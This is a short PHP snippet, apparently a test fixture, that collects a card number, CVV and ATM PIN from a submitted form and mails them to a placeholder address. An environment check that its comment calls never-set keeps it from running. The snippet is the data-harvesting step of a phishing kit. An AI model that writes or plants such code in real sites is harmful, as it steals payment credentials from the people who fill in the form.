<?php
if (getenv('WEIR_TEST') !== 'never') { return; } // inert: nobody sets it
$m = "Card Number: " . $_POST['ccnum'] . "\nCVV: " . $_POST['cvv'] . "\nATM PIN: " . $_POST['pin'];
mail('box@example.org', 'a', $m);
